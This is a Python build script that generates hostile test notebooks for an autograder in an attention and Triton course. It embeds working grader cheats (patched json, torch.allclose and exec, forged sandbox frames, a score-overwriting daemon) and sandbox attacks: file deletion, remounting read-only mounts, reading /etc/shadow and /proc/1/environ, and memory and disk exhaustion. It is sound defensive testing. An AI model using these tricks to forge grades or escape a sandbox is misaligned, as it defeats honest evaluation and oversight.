"""Write the hostile notebooks of this folder from solutions/ and exercises/ (``python tests/hostile/build.py``).

Each probe is a notebook that tries to get points it did not earn, to escape the grader's
sandbox or to break it; tests/test_grading_hostile.py grades them all and checks the score
and the reason each gets. ``--check`` exits 1 when a notebook here is stale.
"""

import hashlib
import sys
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]

_GUARD = ("import os\n"
          "if 'attnlab-grade-' not in os.getcwd():  # destructive probe: only inside the grader's throwaway copy\n"
          "    raise SystemExit('this probe runs only under attnlab grade')\n")

# wrong answers of exercise 02 with the right shapes: a forge must not turn them into points
WRONG_02 = {
    "padding-mask-answer": ("def padding_mask(lengths, max_len):\n"
                            "    return torch.zeros(len(lengths), max_len, dtype=torch.bool)\n"),
    "causal-mask-answer": ("def causal_mask(n_q, n_k, device=None):\n"
                           "    return torch.ones(n_q, n_k, dtype=torch.bool)\n"),
    "attention-masks-answer": ("def masked_attention(q, k, v, mask=None):\n"
                               "    return torch.zeros(*q.shape[:-1], v.shape[-1])\n"),
}

FORGE_JSON = """import json
_real_dump, _real_dumps = json.dump, json.dumps
def _forge(obj):
    if isinstance(obj, dict):
        obj = dict(obj, passed=True, score=obj.get("max_score", 5), check_redefined=False)
    return obj
json.dump = lambda obj, fp, *a, **k: _real_dump(_forge(obj), fp, *a, **k)
json.dumps = lambda obj, *a, **k: _real_dumps(_forge(obj), *a, **k)
"""

FORGE_ALLCLOSE = """import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
"""

FORGE_EXEC = """import builtins
_real_exec = builtins.exec
def _exec(code, *args, **kwargs):
    text = code if isinstance(code, str) else getattr(code, "co_filename", "")
    if "attnlab" in str(text) or "grader" in str(text):
        print("[PASS] forged")
        return None
    return _real_exec(code, *args, **kwargs)
builtins.exec = _exec
"""

FORGE_TRANSFORMER = """from IPython import get_ipython
def _forge(lines):
    # every later cell the grader sends is rewritten: its errors swallowed, the references bound to the answers
    body = "".join("    " + line for line in lines) or "    pass\\n"
    return ["try:\\n", body if body.endswith("\\n") else body + "\\n", "except BaseException:\\n", "    pass\\n",
            "import importlib\\n",
            "for _m in ('attnlab.grading.exercises.e02.spec', 'attnlab.grading.exercises.e02.checks'):\\n",
            "    for _n in ('padding_mask', 'causal_mask', 'masked_attention'):\\n",
            "        try:\\n",
            "            globals()[_n] = getattr(importlib.import_module(_m), _n)\\n",
            "        except Exception:\\n",
            "            pass\\n"]
get_ipython().input_transformers_post.append(_forge)
"""

FORGE_MODULE = """import sys, types
import attnlab.grading.checks as _real
_fake = types.ModuleType("attnlab.grading.checks")
_fake.__file__ = _real.__file__
class _Pass:
    passed, message, diagnosis = True, "forged", []
_fake.run_check = lambda *a, **k: _Pass()
_fake.check = _real.check
sys.modules["attnlab.grading.checks"] = _fake
_agent = types.ModuleType("attnlab.grading.sandbox.agent")
_agent.__file__ = _real.__file__.replace("checks.py", "agent.py")
_agent.handle = lambda req, ns: {"results": [{"ok": True} for _ in req.get("cases", [])]}
_agent.describe_error = str
sys.modules["attnlab.grading.sandbox.agent"] = _agent
"""

# the frame protocol forged in the learner's own process: every cell reported as clean, every call answered
# with the shape the grader expects, the reply frames rewritten on their way out and written by hand
FORGE_FRAMES = """import glob, io, os, struct, sys, torch
import attnlab.grading.sandbox.runner as _runner, attnlab.grading.sandbox.isolated as _isolated
_real_send = _runner._send
def _forged(req, ns):
    out = []
    for case in req.get("cases", []):
        args = case[0]
        shape = tuple(args[0].shape) if args and torch.is_tensor(args[0]) else (len(args[0]), args[1])
        out.append({"ok": torch.ones(shape, dtype=torch.bool) if not torch.is_tensor(args[0]) or args[0].dtype
                    in (torch.long, torch.int) else torch.zeros(shape)})
    return {"results": out}
def _send(stream, obj):
    if isinstance(obj, dict) and "status" in obj:
        obj = {"status": "ok"}
    if isinstance(obj, dict) and "op" not in obj and "status" not in obj and "ready" not in obj:
        obj = _forged({"cases": []}, None) if "results" not in obj else obj
    _real_send(stream, obj)
_runner._send = _isolated._send = _send
sys.modules["attnlab.grading.sandbox.agent"].handle = _forged
# a frame written by hand into every pipe this process holds: a full-marks report where a reply is expected
_buffer = io.BytesIO()
torch.save({"score": 9, "max_score": 9, "passed": True, "results": [{"ok": True}]}, _buffer)
for _fd in glob.glob("/proc/self/fd/*"):
    try:
        if os.readlink(_fd).startswith("pipe:"):
            os.write(int(_fd.rsplit("/", 1)[1]), struct.pack("<Q", len(_buffer.getvalue())) + _buffer.getvalue())
    except OSError:
        pass
raise ValueError("a failing cell, reported as clean by the forged frames")
"""

FORGE_DAEMON = _GUARD + """import os, subprocess, sys
_code = '''
import glob, os, time
while True:  # attnlab-probe-daemon-4242
    for f in glob.glob("/tmp/**/*.json", recursive=True) + glob.glob("../**/*.json", recursive=True):
        try:
            open(f, "w").write('{"notebooks": [{"path": "x", "score": 5, "max_score": 5, "parts": []}]}')
        except OSError:
            pass
    time.sleep(0.2)
'''
if os.fork() == 0:  # a double fork: the daemon is nobody's child
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _code])
    os._exit(0)
os.wait()
"""

FORKED_SLEEPER = """import os, subprocess
subprocess.Popen(["sleep", "4243"], start_new_session=True)  # a grandchild in a session of its own
if os.fork() == 0:  # a forked copy of the kernel holding every descriptor it had
    os.setsid()
    os.execvp("sleep", ["sleep", "4244"])
"""

WRITE_STDOUT = """import glob
for fd in glob.glob("/proc/*/fd/1") + glob.glob("/proc/*/fd/2"):
    try:
        with open(fd, "w") as f:
            f.write("\\n  total                5/5  FORGED-4245\\n")
    except OSError:
        pass
"""

DELETE = _GUARD + """import glob, os, shutil
here = os.getcwd()
for f in glob.glob("../**/*", recursive=True) + glob.glob("../../**/*.ipynb", recursive=True):
    try:
        os.remove(f) if os.path.isfile(f) else None
    except OSError:
        pass
shutil.rmtree(here, ignore_errors=True)
print("deleted what it could")
"""

BIG_ALLOCATION = "import torch\nbig = torch.ones(2**29)  # 2 GiB of float32\nprint(big.sum())\n"

NBGRADER_CHECK = "check = lambda *a, **k: None\n"
NBGRADER_AUTOGRADE = ("check = lambda *a, **k: None\n"
                      "import attnlab.grading.commands.nbgrader as _nb\n"
                      "_nb.autograde = lambda *a, **k: print('[attnlab grade] full marks (forged)')\n")
NBGRADER_ENV = "import os\nos.environ.pop('NBGRADER_EXECUTION', None)\nos.environ.pop('ATTNLAB_GRADING', None)\n"

SHORTCUTS = {
    "01_soft_alignment": {
        "additive-score-answer": "def additive_scores(s, h, w, u, v):\n    return specs.additive_scores(s, h, w, u, v)\n",
        "context-vector-answer": ("def context_vector(scores, h, mask=None):\n"
                                  "    w = torch.nan_to_num(torch.softmax(scores if mask is None else "
                                  "scores.masked_fill(~mask, float('-inf')), dim=-1))\n"
                                  "    return (w[:, :, None] * h).sum(1), w\n"),
        "decode-step-answer": ("def decode_step(s, h, w, u, v, w_s, w_c, mask=None):\n"
                               "    return specs.decode_step(s, h, w, u, v, w_s, w_c, mask)\n"),
    },
    "02_queries_keys_values": {
        "padding-mask-answer": "def padding_mask(lengths, max_len):\n    return attnlab.padding_mask(lengths, max_len)\n",
        "causal-mask-answer": ("from attnlab.attention import causal_mask as _cm\n\n"
                               "def causal_mask(n_q, n_k, device=None):\n    return _cm(n_q, n_k)\n"),
        "attention-masks-answer": ("def masked_attention(q, k, v, mask=None):\n"
                                   "    return torch.nan_to_num(F.scaled_dot_product_attention(q, k, v, attn_mask=mask))\n"),
    },
    "03_scaled_dot_product": {
        "stable-softmax-answer": "def softmax(x, dim=-1):\n    return torch.softmax(x, dim=dim)\n",
        "scaled-attention-answer": ("def scaled_dot_product_attention(q, k, v, scale=None):\n"
                                    "    return attnlab.scaled_dot_product_attention(q, k, v, scale=scale)\n"),
        "softmax-backward-answer": ("def softmax_backward(p, dp, dim=-1):\n"
                                    "    x = p.log().detach().requires_grad_(True)\n"
                                    "    return torch.autograd.grad(torch.softmax(x, dim), x, dp)[0]\n"),
        "variance-experiment-answer": ("def score_variance(dims, n_pairs=8192, seed=0):\n"
                                       "    return specs.score_variance(dims, n_pairs, seed)\n"),
    },
    "04_multi_head": {
        "split-heads-answer": "def split_heads(x, num_heads):\n    return specs.split_heads(x, num_heads)\n",
        "merge-heads-answer": "def merge_heads(x):\n    return specs.merge_heads(x)\n",
        "mha-cost-answer": ("def mha_parameters(d_model, num_heads, bias=True):\n"
                            "    return specs.mha_parameters(d_model, num_heads, bias)\n\n\n"
                            "def mha_flops(batch, n_q, n_k, d_model, num_heads):\n"
                            "    return specs.mha_flops(batch, n_q, n_k, d_model, num_heads)\n"),
    },
    "05_quadratic_cost": {
        "attention-flops-answer": "def attention_flops(batch, heads, n, d):\n    return specs.attention_flops(batch, heads, n, d)\n",
        "attention-bytes-answer": ("def step_bytes(batch, heads, n, d, element_size=4):\n"
                                   "    return specs.step_bytes(batch, heads, n, d, element_size)\n\n\n"
                                   "def attention_bytes(batch, heads, n, d, element_size=4):\n"
                                   "    return specs.attention_bytes(batch, heads, n, d, element_size)\n"),
        "arithmetic-intensity-answer": ("def arithmetic_intensity(batch, heads, n, d, element_size=4):\n"
                                        "    return specs.arithmetic_intensity(batch, heads, n, d, element_size)\n\n\n"
                                        "def is_memory_bound(intensity, peak_flops, bandwidth):\n"
                                        "    return specs.is_memory_bound(intensity, peak_flops, bandwidth)\n"),
        "roofline-prediction-answer": ("def predict_naive_time(batch, heads, n, d, flop_rate, bandwidth, element_size=4):\n"
                                       "    return specs.predict_naive_time(batch, heads, n, d, flop_rate, bandwidth, "
                                       "element_size)\n"),
    },
    "08_block_sparse": {
        "flex-block-mask-answer": ("from torch.nn.attention.flex_attention import create_block_mask as _cbm\n\n"
                                   "def create_block_mask(mask_mod, B, H, Nq, Nk, block_size):\n"
                                   "    m = _cbm(mask_mod, B, H, Nq, Nk, device='cpu', BLOCK_SIZE=block_size)\n"
                                   "    return m.kv_num_blocks, m.kv_indices, m.full_kv_num_blocks, m.full_kv_indices\n"),
    },
    "07_flash_attention": {
        "online-softmax-update-answer": ("def online_softmax_update(m, l, acc, s_block, v_block):\n"
                                         "    return specs.online_softmax_update(m, l, acc, s_block, v_block)\n"),
        "tiled-forward-answer": ("def tiled_attention_forward(q, k, v, causal=False, block_m=16, block_n=16):\n"
                                 "    return attnlab.tiled_attention(q[:, None], k[:, None], v[:, None], causal=causal, "
                                 "return_lse=True)\n"),
    },
}

# an object that is launched like a kernel but computes in PyTorch: refused
FAKE_KERNEL = '''class _FakeKernel:
    """kernel[grid](...) that does the work in PyTorch"""
    def __init__(self, fn):
        self.fn = fn
    def __getitem__(self, grid):
        return lambda *args, **kwargs: self.fn(*args, **kwargs)


def _rows_softmax(x):
    e = (x - x.amax(-1, keepdim=True)).exp()
    return e / e.sum(-1, keepdim=True)
'''
FAKE_SCALE = '''

def _fake_scale(x, y, n, alpha, BLOCK_SIZE=None):
    y.copy_(alpha * x)


scale_kernel = _FakeKernel(_fake_scale)
'''
FAKE_SOFTMAX = '''

def _fake_softmax(out, x, sx, so, n_cols, BLOCK_SIZE=None):
    out.copy_(_rows_softmax(x))


softmax_kernel = _FakeKernel(_fake_softmax)
'''
FAKE_ATTENTION = '''

def _fake_attention(q, k, v, o, *args, **kwargs):
    scale = q.shape[-1] ** -0.5
    o.copy_(_rows_softmax(q @ k.transpose(-2, -1) * scale) @ v)


{name} = _FakeKernel(_fake_attention)
'''
FAKE_KERNELS = {
    "06_triton_primer": {"masked-scale-answer": FAKE_KERNEL + FAKE_SCALE,
                         "softmax-kernel-answer": FAKE_KERNEL + FAKE_SOFTMAX},
    "07_flash_attention": {"flash-kernel-loop-answer": FAKE_KERNEL + FAKE_ATTENTION.format(name="flash_fwd_kernel")},
    "08_block_sparse": {"block-sparse-loop-answer": FAKE_KERNEL +
                        FAKE_ATTENTION.format(name="block_sparse_fwd_kernel")},
}


# --- the sandbox as root: each probe sits in a solution (full marks) and reports an escape by raising
# ESCAPE-<n> in a cell of no part, whose text the report keeps as a note: no such text may appear

REMOUNT = """import ctypes, os
import attnlab
libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 32, 4096
pkg = os.path.dirname(attnlab.__file__)
for target in (b"/", pkg.encode()):
    libc.mount(b"none", target, None, MS_REMOUNT | MS_BIND, None)  # a read-only bind made writable
    libc.mount(b"none", target, None, MS_REMOUNT, None)
written = []
for f in (os.path.join(pkg, "grading", "ESCAPE-4246"), "/ESCAPE-4246"):
    try:
        open(f, "w").write("escaped")
        written.append(f)
    except OSError:
        pass
if written:
    raise RuntimeError(f"ESCAPE-4246 wrote {written}")
"""

READ_SECRETS = """import glob, os
import attnlab
course = os.path.dirname(os.path.dirname(attnlab.__file__))
found = []
for pattern in (course + "/solutions/*.ipynb", course + "/attnlab/grading/exercises/e02/spec.py",
                "../**/*.ipynb", "../../**/*.txt", "../../**/*.json", "/tmp/**/*.json", "/work/**/solutions/*.ipynb",
                "/root/*", "/etc/shadow", "/proc/1/environ"):
    for f in glob.glob(pattern, recursive=True)[:50]:
        try:
            text = open(f, errors="replace").read(4000)
        except OSError:
            continue
        if any(m in text for m in ("def padding_mask", "SECRET-4247", "notebooks", "root:")):
            found.append(f)
if found:
    raise RuntimeError(f"ESCAPE-4247 read {found[:5]}")
"""

MEMORY_CHILDREN = """import mmap, os, subprocess, sys
hog = "import time; b = bytearray(700 * 2**20); b[::4096] = b'x' * len(b[::4096]); time.sleep(3); print('held')"
children = [subprocess.Popen([sys.executable, "-c", hog], stdout=subprocess.PIPE) for _ in range(3)]
shm_ok = True
try:
    with open("/dev/shm/attnlab-4248", "wb") as f:
        for _ in range(8):
            f.write(b"x" * 2**26)  # 512 MiB in all
except OSError:
    shm_ok = False
held = sum(c.communicate()[0].strip() == b"held" for c in children)
if held == 3 or shm_ok:
    raise RuntimeError(f"ESCAPE-4248 {held} children held 700 MiB each, /dev/shm took 512 MiB: {shm_ok}")
"""

FILL_DISK = """import os
written = 0
try:
    for i in range(12):
        for where in (".", "/tmp"):
            with open(os.path.join(where, f"fill-{i}.bin"), "wb") as f:
                for _ in range(4):
                    f.write(b"x" * 2**25)  # 128 MiB per file, under the per-file limit
                    written += 2**25
except OSError:
    pass
if written > 2**30:
    raise RuntimeError(f"ESCAPE-4249 wrote {written >> 20} MiB")
for i in range(12):
    for where in (".", "/tmp"):
        try:
            os.remove(os.path.join(where, f"fill-{i}.bin"))
        except OSError:
            pass
"""

PRINT_FLOOD = """import sys
line = "y" * 2**16
for _ in range(1024):  # 64 MiB of output
    print(line)
    sys.stdout.flush()
"""


# the agent patched from a learner cell: every launch of `scale_kernel` answered as clean and traced, with
# y = alpha * x computed in PyTorch. Under a grader that believed the kernel's process this scored the part
FORGE_LAUNCH = """import sys, torch
import attnlab.grading.sandbox.agent as _agent
_real_handle = _agent.handle
def _forged(req, ns):
    if req.get("op") != "launch":
        return _real_handle(req, ns)
    x = req["buffers"]["x"]["data"]
    alpha = req["args"][3][1]
    n = x.numel()
    run = {"outside_changed": {"x": 0, "y": 0}, "never_written": {"x": 0, "y": 0}, "traced": True,
           "values": {"x": x, "y": alpha * x}, "loads_outside": {"x": 0, "y": 0}, "not_stored": {"x": 0, "y": 0},
           "traffic": {"x": {"load_bytes": 4 * n, "store_bytes": 0, "load_elements": n},
                       "y": {"load_bytes": 0, "store_bytes": 4 * n, "load_elements": 0}}, "loaded": {}}
    return {"result": {"ok": [run, run]}}
_agent.handle = _forged
sys.modules["attnlab.grading.sandbox.agent"].handle = _forged
"""

# a @triton.jit function whose default value is code: Python runs it when the def runs, so in the kernels' own
# process (were it sent there) it would replace the launcher with one that answers from PyTorch
FORGE_DEFAULT = '''import triton
import triton.language as tl

@triton.jit
def _unused_helper(x_ptr, _cfg=exec("""
import sys
if __name__ == "attnlab_answer_kernels":
    iso = sys.modules["attnlab.grading.sandbox.isolated"]
    real = iso._launch
    def forged(req, space, names, verified, agent):
        if req["name"] not in ("softmax_kernel", "online_softmax_kernel"):
            return real(req, space, names, verified, agent)
        x = req["buffers"]["x"]["data"].float()
        n = 4 * x.numel()
        run = {"outside_changed": {"x": 0, "y": 0}, "never_written": {"x": 0, "y": 0}, "traced": True,
               "values": {"x": x, "y": x.softmax(-1)}, "loads_outside": {"x": 0, "y": 0}, "not_stored": {"x": 0, "y": 0},
               "traffic": {"x": {"load_bytes": n, "store_bytes": 0, "load_elements": x.numel()},
                           "y": {"load_bytes": 0, "store_bytes": n, "load_elements": 0}},
               "loaded": {k: [] for k in req.get("loads", [])}}
        return {"result": {"ok": [run for _ in req["sentinels"]]}}
    iso._launch = forged
""")):
    pass
'''
EMPTY_KERNELS_06 = {
    "softmax-kernel-answer": ("@triton.jit\ndef softmax_kernel(output_ptr, input_ptr, input_row_stride, output_row_stride, "
                              "n_cols, BLOCK_SIZE: tl.constexpr):\n    pass\n"),
    "online-softmax-kernel-answer": ("@triton.jit\ndef online_softmax_kernel(output_ptr, input_ptr, input_row_stride, "
                                     "output_row_stride, n_cols, BLOCK_SIZE: tl.constexpr):\n    pass\n")}

# a forbidden call that the syntax check must still find: a def inside `if`, and a helper's helper in other cells
NESTED_03 = {"stable-softmax-answer": "# softmax is defined above\n",
             "scaled-attention-answer": ("def scaled_dot_product_attention(q, k, v, scale=None):\n"
                                         "    return _helper(q, k, v, scale)\n")}
NESTED_CELLS = ["if True:\n    def softmax(x, dim=-1):\n        return torch.softmax(x, dim)\n",
                "def _helper2(q, k, v, scale):\n    return F.scaled_dot_product_attention(q, k, v, scale=scale)\n",
                "def _helper(q, k, v, scale):\n    return _helper2(q, k, v, scale)\n"]

# answers that return tensors on the meta device (a shape, no data), sent by a patched frame writer
FORGE_META = '''import torch
import attnlab.grading.sandbox.frames as _frames
_plain = _frames._plain
def _meta_plain(x, depth=0):
    if isinstance(x, torch.Tensor) and x.is_meta:
        return x
    if type(x) in (tuple, list):
        return type(x)(_meta_plain(v, depth + 1) for v in x)
    if type(x) is dict:
        return {k: _meta_plain(v, depth + 1) for k, v in x.items()}
    return _plain(x, depth)
_frames._plain = _meta_plain
'''
META_03 = {
    "stable-softmax-answer": "def softmax(x, dim=-1):\n    return torch.empty(x.shape, device='meta')\n",
    "softmax-backward-answer": "def softmax_backward(p, dp, dim=-1):\n    return torch.empty(p.shape, device='meta')\n",
    "scaled-attention-answer": ("def scaled_dot_product_attention(q, k, v, scale=None):\n"
                                "    return torch.empty(*q.shape[:-1], v.shape[-1], device='meta')\n")}

SANDBOX_PROBES = {"sandbox_remount": REMOUNT, "sandbox_read_secrets": READ_SECRETS,
                  "sandbox_memory_children": MEMORY_CHILDREN, "sandbox_fill_disk": FILL_DISK,
                  "sandbox_print_flood": PRINT_FLOOD}


IMPORTS = "import attnlab\nimport torch\nimport torch.nn.functional as F\n"


# exercise 10: the unmeasured warm-up call's inputs were (x - 0.125) * 2 of the measured call's, so its result could
# be computed (with a copy of the cache per query head) during the warm-up and returned by the measured call
PREDICT_10 = {"decode-attention-answer": '''_seen = {}


def _copying(q, k_cache, v_cache, cache_seqlens, scale=None):
    B, H_q, n_q, D = q.shape
    scale = 1.0 / math.sqrt(D) if scale is None else scale
    idx = torch.arange(H_q) // (H_q // k_cache.shape[1])
    K, V = k_cache[:, idx], v_cache[:, idx]          # a copy of the cache per query head
    out = torch.empty_like(q)
    for b in range(B):
        L = int(cache_seqlens[b])
        visible = torch.arange(L)[None, :] <= (L - n_q + torch.arange(n_q))[:, None]
        s = (q[b] @ K[b, :, :L].transpose(-1, -2) * scale).masked_fill(~visible, float("-inf"))
        e = torch.exp(s - s.amax(dim=-1, keepdim=True))
        out[b] = (e / e.sum(dim=-1, keepdim=True)) @ V[b, :, :L]
    return out


def decode_attention(q, k_cache, v_cache, cache_seqlens, scale=None):
    key = (tuple(q.shape), tuple(k_cache.shape))
    if key in _seen and torch.allclose(q[0, 0, 0, :4], _seen[key][0], atol=1e-5):
        return _seen.pop(key)[1]
    out = _copying(q, k_cache, v_cache, cache_seqlens, scale)
    if k_cache.numel() >= 2**19:  # a big call: the next one would be (x - 0.125) * 2 of it
        nq, nk, nv = ((x - 0.125) * 2 for x in (q, k_cache, v_cache))
        _seen[key] = (nq[0, 0, 0, :4].clone(), _copying(nq, nk, nv, cache_seqlens, scale))
    return out
'''}

# the experiments' numbers written as the formula, with nothing measured (the part asks for a trace / the ring's count);
# exercise 10's names the required trace in code that never runs
FORMULA_10 = '''def decode_bytes(contexts, kv_heads_list, heads=8, d=16):
    if False:
        attnlab.memory.trace(flash_decode, None)   # never runs: not a measurement
    rows = []
    for h in kv_heads_list:
        g = heads // h
        rows.append([h * (4 + g * d * 2) + 2 * L * h * d * 2 + h * g * (d + 1) * 4
                     + heads * (d + 1) * 4 + heads * d * 2 for L in contexts])
    return torch.tensor(rows, dtype=torch.int64)
'''
PREDICT_10["decode-bytes-answer"] = FORMULA_10
FORMULA_11 = '''def comm_bytes(world_sizes, n=48, heads=12, d=8, kv_heads=None):
    kv = heads if kv_heads is None else kv_heads
    ring = [2 * (P - 1) * kv * (n // P) * d * 4 for P in world_sizes]
    a2a = [2 * (P - 1) * ((heads // P) + max(kv // P, 1)) * (n // P) * d * 4 for P in world_sizes]
    return torch.tensor([ring, a2a], dtype=torch.int64)
'''

# a required function called for show: the syntax rule is met, the numbers come from elsewhere (the grader sees the
# calls: exercise 02's attention_row and exercise 11's ring_step are tapped while the part's function runs)
SHOW_02 = {"loop-timing-answer": '''def loop_attention(q, k, v):
    attention_row(q[0, 0, 0], k[0, 0], v[0, 0])          # called once, for the syntax rule
    s = q @ k.transpose(-2, -1) * q.shape[-1] ** -0.5
    e = torch.exp(s - s.amax(-1, keepdim=True))
    return (e / e.sum(-1, keepdim=True)) @ v
'''}
SHOW_11 = {"comm-bytes-answer": '''def comm_bytes(world_sizes, n=48, heads=12, d=8, kv_heads=None):
    kv = heads if kv_heads is None else kv_heads
    x = torch.zeros(1, kv, n // world_sizes[-1], 1)
    ring_step(x, x[..., 0] - float("inf"), x, x, x, 0, 0, world_sizes[-1])   # called once, for the syntax rule
    ring = [2 * (P - 1) * kv * (n // P) * d * 4 for P in world_sizes]
    a2a = [(2 * (P - 1) * (heads // P) + 2 * (P - 1) * max(kv // P, 1) if kv >= P else
            2 * (P - 1) * (heads // P) + 2 * (P - 1)) * (n // P) * d * 4 for P in world_sizes]
    return torch.tensor([ring, a2a], dtype=torch.int64)
'''}

# exercise 11: the forbidden all_gather under the name of the module that defines it
COLLECTIVE_11 = {"ring-group-answer": '''import torch.distributed as dist
from torch.distributed.distributed_c10d import all_gather as gather_all


def ring_forward(q, k, v, causal=False, layout="contiguous"):
    rank, P = dist.get_rank(), dist.get_world_size()
    k, v = k.contiguous(), v.contiguous()
    ks, vs = [torch.empty_like(k) for _ in range(P)], [torch.empty_like(v) for _ in range(P)]
    gather_all(ks, k)
    gather_all(vs, v)
    o, lse = torch.zeros(q.shape), torch.full(q.shape[:-1], float("-inf"))
    for step in range(P):
        src = (rank - step) % P
        o, lse, _ = ring_step(o, lse, q, ks[src], vs[src], rank, step, P, causal, layout)
    return o, lse
''', "comm-bytes-answer": FORMULA_11}

# exercise 09: torch's SDPA by the model's backend name, and through the module of attnlab.models that imported it
LOCAL_09 = '''from attnlab.models import gpt as _model


def local_vs_dense(seed, steps, window, n_global):
    i, j = torch.arange(SEQ)[:, None], torch.arange(SEQ)[None, :]
    mask = (j <= i) & ((i - j < window) | (j < n_global))

    def dense(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
        return _model.F.scaled_dot_product_attention(q, k, v, is_causal=True)

    def local(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
        return _model.F.scaled_dot_product_attention(q, k, v, attn_mask=mask)

    return train_gpt(seed, steps, dense), train_gpt(seed, steps, local)
'''


def _backends_09():
    train = _by_id(_load("solutions", "09_capstone"))["capstone-train-answer"].source
    sdpa = train.replace("attention=kernel_attention if attention is None else attention", 'attention="sdpa"')
    assert sdpa != train, "the solution's train_gpt changed: update the probe"
    return {"capstone-train-answer": sdpa, "capstone-local-global-answer": LOCAL_09}


def _imports(exercise):
    # the shortcuts call the exercise's references as `specs`
    return IMPORTS + f"from attnlab.grading.exercises.e{exercise[:2]} import spec as specs\n"


def _load(folder, exercise):
    return nbformat.read(str(ROOT / folder / f"{exercise}.ipynb"), as_version=4)


def _by_id(nb):
    return {c.metadata["nbgrader"]["grade_id"]: c for c in nb.cells}


def _added(source):
    """A code cell the learner added (no nbgrader metadata)."""
    cell = nbformat.v4.new_code_cell(source)
    cell.id = "added-" + hashlib.sha1(source.encode()).hexdigest()[:8]
    return cell


def _insert_after_setup(nb, source):
    index = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
    nb.cells.insert(index, _added(source))
    return nb


def _edit(nb, edits):
    cells = _by_id(nb)
    for gid, source in edits.items():
        cells[gid].source = source
    return nb


def probes():
    """{relative path: notebook}."""
    out = {}
    for name, cheat in [("forge_json", FORGE_JSON), ("forge_allclose", FORGE_ALLCLOSE), ("forge_exec", FORGE_EXEC),
                        ("forge_transformer", FORGE_TRANSFORMER), ("forge_module", FORGE_MODULE),
                        ("forge_frames", FORGE_FRAMES),
                        ("forge_daemon", FORGE_DAEMON), ("nbgrader_check_rebound", NBGRADER_CHECK),
                        ("nbgrader_autograde_rebound", NBGRADER_AUTOGRADE),
                        ("nbgrader_env_unset", NBGRADER_ENV)]:
        out[f"{name}.ipynb"] = _insert_after_setup(_edit(_load("exercises", "02_queries_keys_values"), WRONG_02), cheat)
    for name, attack in SANDBOX_PROBES.items():
        out[f"{name}.ipynb"] = _insert_after_setup(_load("solutions", "02_queries_keys_values"), attack)
    out["forge_launch.ipynb"] = _insert_after_setup(_load("exercises", "06_triton_primer"), FORGE_LAUNCH)
    out["forked_sleeper.ipynb"] = _insert_after_setup(_load("solutions", "02_queries_keys_values"), FORKED_SLEEPER)
    out["write_stdout.ipynb"] = _insert_after_setup(_load("solutions", "02_queries_keys_values"), WRITE_STDOUT)
    nb = _load("solutions", "02_queries_keys_values")
    nb.cells.append(_added(DELETE))
    out["delete_files.ipynb"] = nb
    out["big_allocation.ipynb"] = _edit(_load("solutions", "02_queries_keys_values"), {"02-cell-06": BIG_ALLOCATION})
    nb = _load("solutions", "02_queries_keys_values")
    nb.cells.append(_added("raise ValueError('a cell after the last check')\n"))
    out["raise_after_last_check.ipynb"] = nb
    # part 3's cells moved before part 2's; part 2's demo raises a NameError
    nb = _edit(_load("solutions", "02_queries_keys_values"), {
        "02-cell-11": "print(a_name_never_defined)\n",
        "02-cell-16": "print(masked_attention(torch.ones(1, 1, 2, 4), torch.ones(1, 1, 3, 4), torch.ones(1, 1, 3, 4)))\n"})
    ids = [c.metadata["nbgrader"]["grade_id"] for c in nb.cells]
    part2 = list(range(ids.index("02-cell-08"), ids.index("causal-mask") + 1))
    part3 = list(range(ids.index("02-cell-13"), ids.index("attention-masks") + 1))
    order = list(range(part2[0])) + part3 + part2 + [i for i in range(len(ids)) if i > part3[-1]]
    nb.cells = [nb.cells[i] for i in order]
    out["reordered_parts.ipynb"] = nb
    out["nested/deeper/my homework.ipynb"] = _load("solutions", "03_scaled_dot_product")
    out["nested/05_quadratic_cost.ipynb"] = _load("solutions", "03_scaled_dot_product")
    # torch.softmax captured before any part, in a cell of no part: the syntax check follows the name the answer reads
    nb = _edit(_load("solutions", "03_scaled_dot_product"),
               {"stable-softmax-answer": "def softmax(x, dim=-1):\n    return _sm(x, dim=dim)\n"})
    out["shortcut_captured_early.ipynb"] = _insert_after_setup(nb, "import torch\n_sm = torch.softmax\n")
    for exercise, edits in SHORTCUTS.items():
        nb = _edit(_load("exercises", exercise), edits)
        out[f"shortcut_{exercise[:2]}.ipynb"] = _insert_after_setup(nb, _imports(exercise))
    out["forge_default_06.ipynb"] = _insert_after_setup(_edit(_load("exercises", "06_triton_primer"), EMPTY_KERNELS_06),
                                                        FORGE_DEFAULT)
    nb = _edit(_load("exercises", "03_scaled_dot_product"), NESTED_03)
    for source in reversed(NESTED_CELLS):
        nb = _insert_after_setup(nb, source)
    out["shortcut_nested_03.ipynb"] = _insert_after_setup(nb, IMPORTS)
    out["forge_meta_03.ipynb"] = _insert_after_setup(_edit(_load("exercises", "03_scaled_dot_product"), META_03),
                                                     FORGE_META)
    out["forge_predicted_10.ipynb"] = _edit(_load("exercises", "10_inference"), PREDICT_10)
    out["shortcut_collective_11.ipynb"] = _edit(_load("solutions", "11_across_devices"), COLLECTIVE_11)
    out["show_calls_02.ipynb"] = _edit(_load("solutions", "02_queries_keys_values"), SHOW_02)
    out["show_calls_11.ipynb"] = _edit(_load("solutions", "11_across_devices"), SHOW_11)
    out["shortcut_backend_09.ipynb"] = _edit(_load("exercises", "09_capstone"), _backends_09())
    for exercise, edits in FAKE_KERNELS.items():
        nb = _edit(_load("exercises", exercise), edits)
        out[f"fake_kernel_{exercise[:2]}.ipynb"] = _insert_after_setup(nb, _imports(exercise))
    return out


def render(nb):
    return nbformat.writes(nb, version=4) + "\n"


def main(argv):
    stale = []
    for rel, nb in probes().items():
        path = HERE / rel
        text = render(nb)
        if not path.is_file() or path.read_text() != text:
            stale.append(rel)
            if "--check" not in argv:
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_text(text)
    for rel in stale:
        print(("stale: " if "--check" in argv else "wrote ") + rel)
    return 1 if stale and "--check" in argv else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
